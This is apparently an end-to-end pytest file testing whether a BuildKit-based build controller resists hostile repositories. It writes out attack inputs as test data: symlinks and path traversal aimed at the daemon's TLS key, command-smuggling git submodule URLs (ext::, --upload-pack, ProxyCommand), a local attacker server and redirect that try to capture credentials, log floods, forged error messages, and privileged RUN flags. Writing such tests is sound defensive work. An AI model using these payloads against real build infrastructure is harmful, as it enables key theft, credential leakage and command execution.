"""Whoever writes a repository, a Dockerfile or a daemon's answers, on a real node.

git, BuildKit and the registries are real. Each attack ends in its own Build: nothing leaves the
repository's folder, no credential reaches another host, no word of a step is taken for BuildKit's.
"""

from __future__ import annotations

import contextlib
import dataclasses
import http.server
import os
import subprocess
import threading
from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from controller.api.resources import Resource
from devcluster import forge, registry
from tests.e2e import driving
from tests.e2e.driving import Kube, Place
from tests.e2e.shops import Shop, builders, ends, logs, plain, rooms_of, secret

pytestmark = [
    pytest.mark.long(reason="minutes of Builds; test_real_builds has the usual ends"),
    pytest.mark.e2e,
    pytest.mark.realnode,
    pytest.mark.skipif(os.geteuid() != 0, reason="a real node needs root"),
]

FROM = "FROM python:3.11-slim-bookworm\n"
# The daemon can read its own key, whose every spelling has these words.
KEYS, KEY, LEAKED = "/etc/buildkitd-tls", "/etc/buildkitd-tls/tls.key", "PRIVATE KEY"
UP = "../" * 12
WORD = "the-right-word-7"
MEBIBYTE = 1 << 20
NOTHING = f"sha256:{'0' * 64}"
ONCE = {"attempts": 2, "backoff": {"initialSeconds": 1, "maxSeconds": 2}}


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """A cluster whose only node is real, the chart with its BuildKit, and one operator."""
    with builders(tmp_path_factory.mktemp("foul")) as built:
        yield built


@pytest.fixture(scope="module")
def started(place: Place) -> forge.Forge:
    """Where git and the registries are."""
    assert place.cluster is not None
    return forge.start(place.cluster)


@pytest.fixture
def kube(place: Place) -> Iterator[Kube]:
    """A namespace of that cluster for restricted pods alone, with what shows one to BuildKit."""
    yield from rooms_of(place)


@dataclasses.dataclass(frozen=True, slots=True)
class Rooms:
    """Makes shops, each in a namespace of its own, so that many attacks are made at once."""

    place: Place
    started: forge.Forge
    leases: contextlib.ExitStack

    def shop(self, **source: Any) -> Shop:
        """Make one; its namespace is judged when the test has ended."""
        kube = self.leases.enter_context(contextlib.contextmanager(rooms_of)(self.place))
        return Shop(self.place, self.started, kube, **source)


@pytest.fixture
def rooms(place: Place, started: forge.Forge) -> Iterator[Rooms]:
    """Namespaces of that cluster for restricted pods alone; what was written is judged."""
    with contextlib.ExitStack() as leases:
        yield Rooms(place, started, leases)


@dataclasses.dataclass(slots=True)
class Ear:
    """A server of an attacker: it keeps what it is asked, and answers that there is nothing."""

    address: str = ""
    heard: list[tuple[str, str | None]] = dataclasses.field(default_factory=list)
    # Where it sends people; nowhere.
    elsewhere: str = ""


@contextlib.contextmanager
def listening(place: Place, elsewhere: str = "") -> Iterator[Ear]:
    """Listen where pods reach this machine."""
    assert place.cluster is not None
    ear = Ear(elsewhere=elsewhere)

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            ear.heard.append((self.path, self.headers["Authorization"]))
            self.send_response(302 if ear.elsewhere else 404)
            if ear.elsewhere:
                self.send_header("Location", f"{ear.elsewhere}{self.path}")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    gateway = registry.require_node(place.cluster).gateway
    with http.server.ThreadingHTTPServer((gateway, 0), Handler) as server:
        ear.address = f"http://{gateway}:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield ear
        finally:
            server.shutdown()
            thread.join()


def shown(kube: Kube) -> str:
    """Return all that anybody can read of the builds of a namespace."""
    kinds = (Resource.BUILDS, Resource.JOBS, Resource.PODS, Resource.EVENTS, Resource.APPLICATIONS)
    return "\n".join([*logs(kube), *(str(kube.list(each)) for each in kinds)])


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class Way:
    """A way out of a repository: its links, its Dockerfile, and what the source says of it."""

    links: Mapping[str, str] = dataclasses.field(default_factory=dict)
    steps: str = ""
    path: str = ""
    dockerfile: str = "Dockerfile"


WAYS = {
    "dockerfile": Way(links={"Dockerfile": KEY}),
    "dockerfile-up": Way(links={"Dockerfile": UP + KEY}),
    "copied": Way(links={"key": KEY}, steps="COPY key /got\nRUN cat /got"),
    "copied-up": Way(links={"key": UP + KEY}, steps="COPY key /got\nRUN cat /got"),
    "below": Way(links={"folder": KEYS}, steps="COPY folder/tls.key /got\nRUN cat /got"),
    "folder": Way(links={"folder": KEYS}, steps="COPY folder /got\nRUN cat /got/tls.key"),
    "deep": Way(links={"deep/key": KEY}, steps="COPY deep /got\nRUN cat /got/key"),
    "mounted": Way(
        links={"key": KEY}, steps="RUN --mount=type=bind,source=key,target=/got cat /got"
    ),
    "mounted-folder": Way(
        links={"folder": KEYS},
        steps="RUN --mount=type=bind,source=folder,target=/got cat /got/tls.key",
    ),
    "added": Way(steps=f"ADD file://{KEY} /got\nRUN cat /got"),
    "path": Way(links={"out": KEYS}, path="out", dockerfile="tls.key"),
    "path-up": Way(links={"out": UP}, path=f"out{KEYS}", dockerfile="tls.key"),
}


def test_nothing_outside_of_the_repository_is_built(rooms: Rooms) -> None:
    """Links out of the context lead nowhere: the daemon's own key is not in anything it makes."""
    shops = {}
    for name, way in WAYS.items():
        shop = shops[name] = rooms.shop(dockerfile=way.dockerfile, recovery=ONCE)
        if way.path:
            shop.app.component()["source"]["git"]["path"] = way.path
        for link, target in way.links.items():
            path = shop.repository.checkout / link
            path.parent.mkdir(exist_ok=True)
            path.symlink_to(target)
        own = {} if "Dockerfile" in way.links else {"Dockerfile": f"{FROM}{way.steps}\n"}
        shop.repository.commit(own)
        shop.app.apply()
    for name, shop in shops.items():
        reason, message = ends(shop)
        assert reason in {"Failed", "SourceUnavailable"}, f"{name}: {message}"
        assert LEAKED not in shown(shop.kube), name


URLS = (
    "ext::git ls-remote @ear@/struck",
    "--upload-pack=git ls-remote @ear@/struck",
    "-cprotocol.ext.allow=always",
    "file:///home/user/.local/share/buildkit",
    "/home/user/.local/share/buildkit",
    "ssh://-oProxyCommand=git/struck",
)


def test_a_submodule_is_fetched_as_a_source_is_or_not_at_all(place: Place, rooms: Rooms) -> None:
    """A repository cannot have the daemon run a program, or read its own disk, by a submodule."""
    with listening(place) as ear:
        shops = {}
        for url in URLS:
            shop = shops[url] = rooms.shop(recovery=ONCE)
            submodule(shop, url.replace("@ear@", ear.address))
            shop.app.apply()
        for url, shop in shops.items():
            reason, message = ends(shop)
            assert reason == "SourceUnavailable", f"{url}: {message}"
        assert not ear.heard


def submodule(shop: Shop, url: str) -> None:
    """Commit a submodule that is to be fetched from there."""
    checkout = shop.repository.checkout
    (checkout / "part").mkdir()
    text = f'[submodule "part"]\n\tpath = part\n\turl = {url}\n'
    link = f"160000,{'1' * 40},part"
    adding = ["update-index", "--add", "--cacheinfo", link]
    subprocess.run(["git", "-C", str(checkout), *adding], check=True)
    shop.repository.commit({"Dockerfile": f"{FROM}RUN true\n", ".gitmodules": text})


def test_credentials_go_to_the_host_of_the_source_alone(
    place: Place, started: forge.Forge, kube: Kube
) -> None:
    """Neither another repository in a Dockerfile, nor a submodule, nor a redirect is shown them.

    A step that prints what it was given prints it in no log.
    """
    secret(kube, "git", plain(username="git", password=WORD))
    guarded = {"url": "", "secretRef": {"name": "git"}}
    with listening(place) as ear:
        shop = Shop(place, started, kube, password=WORD, git=guarded, recovery={"attempts": 1})
        shop.app.component()["source"]["git"]["url"] = shop.repository.url
        name = f"GIT_AUTH_HEADER.{started.git.partition('://')[2]}"
        mount = f"RUN --mount=type=secret,id={name},required=true"
        printing = f"{mount} cat /run/secrets/* && false\n"
        shop.repository.commit({"Dockerfile": f"{FROM}{printing}"})
        shop.app.apply()
        assert ends(shop)[0] == "Failed"
        assert "***" in shown(kube)
        adding = f"ADD {ear.address}/other.git /got\n"
        shop.repository.commit({"Dockerfile": f"{FROM}{adding}"})
        shop.ask()
        assert ends(shop, 2)[0] == "SourceUnavailable"
        assert {word for _, word in ear.heard} == {None}
        ear.heard.clear()
        submodule(shop, f"{ear.address}/part.git")
        shop.ask()
        assert ends(shop, 3)[0] == "SourceUnavailable"
        assert {word for _, word in ear.heard} == {None}
        ear.heard.clear()
        with listening(place, elsewhere=ear.address) as own:
            # The password is meant for this one, which sends everybody on.
            source = shop.app.component()["source"]
            source["git"]["url"] = f"{own.address}/shop.git"
            shop.app.apply()
            assert ends(shop, 4)[0] == "SourceUnavailable"
            # With a commit that is named, BuildKit is the first to ask.
            shop.app.annotate(**{"build-requested": f"sha:{'1' * 40} again"})
            assert ends(shop, 5)[0] == "SourceUnavailable"
            assert any(word for _, word in own.heard)
        assert ear.heard
        assert {word for _, word in ear.heard} == {None}
    texts = shown(kube)
    assert not [each for each in (WORD, plain(x=f"git:{WORD}")["x"]) if each in texts]


FLOODS = {
    "lines": f"yes {'word' * 40} | head -c {100 * MEBIBYTE}; false",
    "one line": f"head -c {100 * MEBIBYTE} /dev/zero | tr '\\\\0' x; false",
    "noise": f"head -c {20 * MEBIBYTE} /dev/urandom; false",
}


def test_a_huge_log_is_cut_and_costs_one_build(rooms: Rooms) -> None:
    """One attempt, within the memory of its pod; the next Build is as good as any."""
    shops = {name: rooms.shop() for name in FLOODS}
    for name, shop in shops.items():
        shop.repository.commit({"Dockerfile": f"{FROM}RUN {FLOODS[name]}\n"})
        shop.app.apply()
    for name, shop in shops.items():
        reason, message = ends(shop)
        assert reason == "Failed", f"{name}: {message}"
        assert len(message) <= 1024 + len("…"), name
        (*_, phase) = shop.build(1)["status"]["phases"]
        assert (phase["attempts"], phase["lastError"]["class"]) == (1, "Terminal"), name
        assert all(len(each) < 10 * MEBIBYTE for each in logs(shop.kube)), name
        shop.commit("one")
        shop.ask()
    for shop in shops.values():
        shop.wait_pages("one")


def test_no_word_of_a_step_or_a_test_is_taken_for_an_ending(
    place: Place, started: forge.Forge, kube: Kube
) -> None:
    """Forged endings: in the log, in the file of the last word, with line ends of every kind."""
    other = {"commit": "1" * 40, "digest": NOTHING, "class": "Transient", "message": "x"}
    word = str(other).replace("'", '"')
    lies = (
        "error: failed to solve: failed to push: connection refused",
        "------",
        " > [1/1] RUN innocent:",
        word,
    )
    printed = "".join(f"{each}\\r{each}\\n" for each in lies)
    shop = Shop(place, started, kube)
    script = f"#!/bin/sh\nprintf '{printed}'\nprintf '{printed}' >&2\n"
    forged = f"{script}echo '{word}' >/dev/termination-log\n"
    steps = f"{FROM}COPY forged.sh /\nRUN sh /forged.sh; false\n"
    shop.repository.commit({"Dockerfile": steps, "forged.sh": forged})
    shop.app.apply()
    reason, message = ends(shop)
    assert reason == "Failed"
    assert message.startswith("RUN sh /forged.sh; false: exit code: 1")
    (*_, phase) = shop.build(1)["status"]["phases"]
    assert (phase["attempts"], phase["lastError"]["class"]) == (1, "Terminal")
    # Now all goes well, and both the build and its test lie about what was built.
    made = shop.commit("one")
    text = (shop.repository.checkout / "Dockerfile").read_text()
    program = text.replace("CMD", "COPY forged.sh /\nRUN sh /forged.sh; true\nCMD")
    made = shop.repository.commit({"Dockerfile": program})
    shop.app.component()["source"]["test"] = {"command": ["sh", "/forged.sh"]}
    shop.app.apply()
    shop.wait_pages("one")
    status = shop.build(2)["status"]
    assert status["commit"] == made
    assert status["digest"] != NOTHING
    assert set(driving.images(shop.app.pods()).values()) == {status["image"]}


STEPS = (
    "RUN --network=host true",
    "RUN --security=insecure true",
    "# syntax=@registry@/evil\nRUN true",
)


def test_a_step_gets_no_rights_that_a_pod_would_not(started: forge.Forge, rooms: Rooms) -> None:
    """The network of the daemon, its privileges, another frontend: refused, and once."""
    shops = {}
    for step in STEPS:
        shop = shops[step] = rooms.shop()
        before, _, after = step.rpartition("\n")
        line = before.replace("@registry@", started.registry)
        shop.repository.commit({"Dockerfile": f"{line}\n{FROM}{after}\n".lstrip()})
        shop.app.apply()
    for step, shop in shops.items():
        assert ends(shop)[0] == "Failed", step
        (*_, phase) = shop.build(1)["status"]["phases"]
        assert phase["attempts"] == 1, step
